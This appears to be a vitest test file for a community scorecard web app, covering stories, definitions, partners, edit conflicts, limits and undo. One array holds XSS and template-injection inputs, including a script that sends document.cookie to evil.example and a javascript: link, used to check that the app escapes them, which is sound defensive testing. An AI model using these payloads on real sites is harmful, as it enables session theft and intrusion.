import { expect, test } from 'vitest'
import { storyAt } from '../measures/rules.ts'
import { historyOf } from '../platform/history.ts'
import { entryKinds, kinds } from './kinds.ts'
import type { Kept, Kind } from './model.ts'
import { all, find } from './store.ts'
import { type Room, sampleRoom } from './test-room.ts'

const seed = 'new-recovery-coaches-trained'

async function seedRoom() {
  const room = await sampleRoom()
  const measureId = room.measure(seed)
  const ask = room.team.as('editor')
  const read = <K extends Kind>(kind: K): Promise<readonly Kept<K>[]> =>
    room.db.read(room.team.scope, (tx) => all(tx, kind, { measureId }))
  const first = async <K extends Kind>(kind: K): Promise<Kept<K>> => {
    const kept = (await read(kind))[0]
    if (!kept) throw new Error(`no ${kind}`)
    return kept
  }
  return { room, measureId, ask, read, first, at: `/scorecard/measures/${measureId}`, here: storyAt(measureId) }
}
const story = (body: string, more: Record<string, string> = {}) => ({
  body,
  writtenOn: '2025-01-20',
  fromOn: '',
  toOn: '',
  ...more,
})
const kept = (room: Room, kind: Kind, id: string) => room.db.read(room.team.scope, (tx) => find(tx, kind, id))

test('the measure page shows value, story, partners, ideas and plan, and who changed what', async () => {
  const { ask, here } = await seedRoom()
  const page = await (await ask(here)).text()
  for (const words of [
    '12 coaches',
    '2020 to 2024',
    '<strong>39</strong>',
    'Area L AHEC',
    'Low cost',
    'Under way',
    'Version 1',
  ])
    expect(page).toContain(words)
  expect(page).toContain('History')
})

test('a story is added, shown newest first, and stands in the history of its page', async () => {
  const { ask, at, first, here } = await seedRoom()
  const added = await ask(
    `${at}/stories/add`,
    story('More people **wanted** to help.', { writtenOn: '2025-02-01', fromOn: '2023-01-01', toOn: '2023-12-31' }),
  )
  expect(added.headers.get('location')).toBe(`/team/wilson${here}?did=added&at=story#story`)
  const page = await (await ask(here)).text()
  expect(page.indexOf('More people')).toBeLessThan(page.indexOf('In 2020'))
  expect(page).toContain('about 2023')
  expect(page).toContain('added story')
  expect((await first('story')).fromOn).toBe('2023-01-01')
})

test('two editors save the same story: the second sees both, and nothing is overwritten in silence (BI-R52)', async () => {
  const { ask, first, room } = await seedRoom()
  const { id, version } = await first('story')
  const edit = `/scorecard/stories/${id}/edit`
  const save = (body: string, read: number) => ask(edit, story(body, { version: String(read) }))
  expect((await save('Theirs: funding ended.', version)).status).toBe(303)
  const second = await save('Yours: the instructor left.', version)
  expect(second.status).toBe(422)
  const page = await second.text()
  expect(page).toContain('Somebody saved this story entry after you opened it.')
  expect(page).toContain('<strong>Saved now:</strong> <span>Theirs: funding ended.</span>')
  expect(page).toContain('>Yours: the instructor left.</textarea>')
  expect(page).toContain(`name="version" value="${version + 1}"`)
  expect(page).toContain('Save again to keep yours.')
  expect(await kept(room, 'story', id)).toMatchObject({ body: 'Theirs: funding ended.' })
  expect((await save('Yours: the instructor left.', version + 1)).status).toBe(303)
  expect(await kept(room, 'story', id)).toMatchObject({ body: 'Yours: the instructor left.' })
})

test('of two saves at the same moment one is kept and one is asked', async () => {
  const { ask, first } = await seedRoom()
  const { id, version } = await first('story')
  const save = (body: string) => ask(`/scorecard/stories/${id}/edit`, story(body, { version: String(version) }))
  const statuses = (await Promise.all([save('One.'), save('Two.')])).map((answer) => answer.status)
  expect(statuses.sort((a, b) => a - b)).toEqual([303, 422])
})

test('the same save sent twice is one save', async () => {
  const { ask, first, room } = await seedRoom()
  const { id, version } = await first('story')
  for (const _ of [1, 2])
    expect((await ask(`/scorecard/stories/${id}/edit`, story('Once.', { version: String(version) }))).status).toBe(303)
  expect(await kept(room, 'story', id)).toMatchObject({ version: version + 1 })
  const lines = await room.db.read(room.team.scope, (tx) => historyOf(tx, [id]))
  expect(lines.map((line) => line.act)).toEqual(['scorecard.changeStory', 'test.loadSample'])
})

test('a save without a version is asked about, never taken', async () => {
  const { ask, first } = await seedRoom()
  const { id } = await first('story')
  expect((await ask(`/scorecard/stories/${id}/edit`, story('No version.'))).status).toBe(422)
})

test('a story that was removed while it was edited can be put back with the new words', async () => {
  const { ask, first, room } = await seedRoom()
  const { id, version } = await first('story')
  expect((await ask(`/scorecard/stories/${id}/remove`, { version: String(version) })).status).toBe(303)
  const late = await ask(`/scorecard/stories/${id}/edit`, story('Written meanwhile.', { version: String(version) }))
  expect(late.status).toBe(422)
  expect(await late.text()).toContain('removed this while you were writing')
  const again = story('Written meanwhile.', { version: String(version + 1) })
  expect((await ask(`/scorecard/stories/${id}/edit`, again)).status).toBe(303)
  expect(await kept(room, 'story', id)).toMatchObject({ body: 'Written meanwhile.', removedAt: null })
})

test('a text beyond the limit names the limit and stays in the editor (BI-F15)', async () => {
  const { ask, at, read } = await seedRoom()
  const body = 'word '.repeat(60_000)
  const refused = await ask(`${at}/stories/add`, story(body))
  expect(refused.status).toBe(422)
  const page = await refused.text()
  expect(page).toContain('The most is 20,000.')
  expect(page).toContain('word '.repeat(59_000))
  expect(await read('story')).toHaveLength(1)
})

test('20,000 characters are kept and one more is not', async () => {
  const { ask, at } = await seedRoom()
  expect((await ask(`${at}/stories/add`, story('é'.repeat(20_000)))).status).toBe(303)
  expect((await ask(`${at}/stories/add`, story('é'.repeat(20_001)))).status).toBe(422)
})

test('a blank text is refused beside its field and the rest stays typed (BI-F13)', async () => {
  const { ask, at } = await seedRoom()
  const refused = await ask(`${at}/what-works/add`, {
    claim: ' \u200b\u00a0\u3000\u2060 ',
    source: 'Kept as typed',
    costBand: 'no cost',
  })
  expect(refused.status).toBe(422)
  const page = await refused.text()
  expect(page).toContain('What works is missing.')
  expect(page).toContain('Kept as typed')
})

test('names of every alphabet come back as they were typed (BI-F01)', async () => {
  const { ask, at, read, here } = await seedRoom()
  const owner = 'Siobhán O’Brien-Uñuñez'
  expect((await ask(`${at}/actions/add`, { what: 'Call', owner, status: 'not started' })).status).toBe(303)
  expect((await read('action')).at(-1)?.owner).toBe(owner)
  expect(await (await ask(here)).text()).toContain(owner)
})

const hostile = [
  ['BI-F39', "Hello <script>fetch('https://evil.example/?c='+document.cookie)</script> world"],
  ['BI-F40', '[read more](javascript:alert(document.domain))'],
  [
    'BI-F45',
    '<a href="https://evil.example" target=_blank ping="https://evil.example/p" style="position:fixed;inset:0;opacity:0">x</a>',
  ],
  ['BI-F49', "${7*7} {{7*7}} <%= 7*7 %> #{7*7} {{constructor.constructor('return process')()}}"],
] as const
for (const [id, body] of hostile)
  test(`${id}: a hostile story is words on the page, in the form, in the question before removal and beside a conflict`, async () => {
    const { ask, at, first, here } = await seedRoom()
    expect((await ask(`${at}/stories/add`, story(body, { writtenOn: '2025-03-01' }))).status).toBe(303)
    const { id: storyId, version, body: as } = await first('story')
    expect(as).toBe(body)
    const edit = `/scorecard/stories/${storyId}/edit`
    await ask(edit, story(`${body} more`, { version: String(version) }))
    const pages = [
      await ask(here),
      await ask(edit),
      await ask(`/scorecard/stories/${storyId}/remove`),
      await ask(edit, story(`${body} late`, { version: String(version) })),
    ]
    for (const answer of pages) {
      const page = (await answer.text())
        .replace(/<script type="module" src="\/assets\/[\w.-]+"><\/script>/g, '')
        .replace(/<time .*?<\/time>/g, '') // 49 may be a second or a minute
      expect(page).not.toMatch(/<script|<a[^>]*(javascript:|ping=|target=|style=)/i)
      expect(page).not.toMatch(/\b49\b/)
    }
  })

test('a new definition takes the next number; the earlier one is listed and in force until its day', async () => {
  const { ask, at, read, here } = await seedRoom()
  const words = { lay: 'Counted by session.', technical: '', effectiveOn: '2025-07-01', version: '1' }
  expect((await ask(`${at}/definitions/add`, words)).status).toBe(303)
  expect((await read('measure_definition')).map((each) => [each.number, each.effectiveOn])).toEqual([
    [2, '2025-07-01'],
    [1, '2020-01-01'],
  ])
  const page = await (await ask(here)).text()
  expect(page).toContain('Version 1, in force from 1 Jan 2020')
  expect(page).toContain('Version 2, takes effect on 1 Jul 2025')
})

test('a definition is refused that changes nothing, or that begins before the one it follows', async () => {
  const { ask, at, first } = await seedRoom()
  const { lay, technical, effectiveOn } = await first('measure_definition')
  const same = await ask(`${at}/definitions/add`, { lay, technical, effectiveOn, version: '1' })
  expect([same.status, await same.text()]).toEqual([422, expect.stringContaining('the words of version 1 already')])
  const early = await ask(`${at}/definitions/add`, { lay: 'Other', technical, effectiveOn: '2019-12-31', version: '1' })
  expect([early.status, await early.text()]).toEqual([422, expect.stringContaining('when version 1 took effect')])
})

test('two editors change the definition: the second sees both', async () => {
  const { ask, at } = await seedRoom()
  const change = (lay: string, version: string) =>
    ask(`${at}/definitions/add`, { lay, technical: '', effectiveOn: '2025-01-01', version })
  expect((await change('Theirs', '1')).status).toBe(303)
  const second = await change('Yours', '1')
  expect(second.status).toBe(422)
  const page = await second.text()
  for (const words of ['Theirs', 'Yours', 'name="version" value="2"']) expect(page).toContain(words)
  expect((await change('Yours', '2')).status).toBe(303)
})

test('removing asks once in words, and can be undone from the page it leads to', async () => {
  const { ask, first, read } = await seedRoom()
  const { id, version } = await first('what_works')
  const question = await (await ask(`/scorecard/what-works/${id}/remove`)).text()
  expect(question).toContain('The next edition will be without these words.')
  const removed = await ask(`/scorecard/what-works/${id}/remove`, { version: String(version) })
  const page = await (await ask((removed.headers.get('location') ?? '').replace('/team/wilson', ''))).text()
  expect(page).toContain('Removed.')
  expect(page).toContain(`/scorecard/what-works/${id}/put-back`)
  const before = (await read('what_works')).length
  expect((await ask(`/scorecard/what-works/${id}/put-back`, {})).status).toBe(303)
  expect((await read('what_works')).map((each) => each.id)).toHaveLength(before + 1)
  expect((await read('what_works'))[0]?.id).toBe(id)
})

test('nothing is removed that somebody changed since it was read', async () => {
  const { ask, first, room } = await seedRoom()
  const { id, version } = await first('story')
  await ask(`/scorecard/stories/${id}/edit`, story('Changed.', { version: String(version) }))
  const refused = await ask(`/scorecard/stories/${id}/remove`, { version: String(version) })
  expect(refused.status).toBe(422)
  expect(await refused.text()).toContain('Changed.')
  expect(await kept(room, 'story', id)).toMatchObject({ removedAt: null })
})

test('a partner stands once on a page, must be one of ours, and cannot be put back beside itself', async () => {
  const { ask, at, first, room } = await seedRoom()
  const { id, partnerId, version } = await first('measure_partner')
  const twice = await ask(`${at}/partners/add`, { partnerId, brings: '' })
  expect([twice.status, await twice.text()]).toEqual([422, expect.stringContaining('on the page already')])
  const unknown = await ask(`${at}/partners/add`, { partnerId: '00000000-0000-7000-8000-0000000000ff' })
  expect(unknown.status).toBe(422)
  expect((await ask(`/scorecard/partners/${id}/remove`, { version: String(version) })).status).toBe(303)
  expect((await ask(`${at}/partners/add`, { partnerId, brings: 'Again' })).status).toBe(303)
  expect((await ask(`/scorecard/partners/${id}/put-back`, {})).status).toBe(422)
  expect(await kept(room, 'measure_partner', id)).toMatchObject({ removedAt: expect.any(Date) })
})

test('an overdue action says so in words', async () => {
  const { ask, at, here } = await seedRoom()
  await ask(`${at}/actions/add`, { what: 'Ask for Medicaid', status: 'under way', dueOn: '2025-01-14' })
  await ask(`${at}/actions/add`, { what: 'Not yet late', status: 'under way', dueOn: '2025-01-15' })
  const page = await (await ask(here)).text()
  expect(page).toContain('Overdue since 14 Jan 2025')
  expect(page).not.toContain('Overdue since 15 Jan 2025')
})

test('periods and days that contradict each other are refused at their field', async () => {
  const { ask, at } = await seedRoom()
  const half = await ask(`${at}/stories/add`, story('A', { fromOn: '2023-01-01' }))
  expect(await half.text()).toContain('Last period is missing. Choose both, or neither.')
  const back = await ask(`${at}/stories/add`, story('A', { fromOn: '2024-01-01', toOn: '2023-12-31' }))
  expect(await back.text()).toContain('Last period ends before the first begins.')
  const due = await ask(`${at}/actions/add`, { what: 'A', status: 'done', startsOn: '2025-02-02', dueOn: '2025-02-01' })
  expect(await due.text()).toContain('Due is before the start.')
})

test('a source that is no web address is refused, a bare one is completed', async () => {
  const { ask, at, read } = await seedRoom()
  const idea = { claim: 'Mentors', costBand: 'no cost' }
  expect((await ask(`${at}/what-works/add`, { ...idea, sourceUrl: 'javascript:alert(1)' })).status).toBe(422)
  expect((await ask(`${at}/what-works/add`, { ...idea, sourceUrl: 'example.org/study' })).status).toBe(303)
  expect((await read('what_works')).at(-1)?.sourceUrl).toBe('https://example.org/study')
})

test('a page without words names each empty part to the team, with what RBA asks there', async () => {
  const { room, ask } = await seedRoom()
  const bare = room.measure('training-completion')
  for (const kind of entryKinds)
    for (const { id, version } of await room.db.read(room.team.scope, (tx) => all(tx, kind, { measureId: bare })))
      await ask(`/scorecard/${kinds[kind].path}/${id}/remove`, { version: String(version) })
  const page = await (await ask(storyAt(bare))).text()
  expect(page.match(/Nothing is written here yet/g)).toHaveLength(5)
  expect(page).toContain('at least one that costs nothing or little')
})
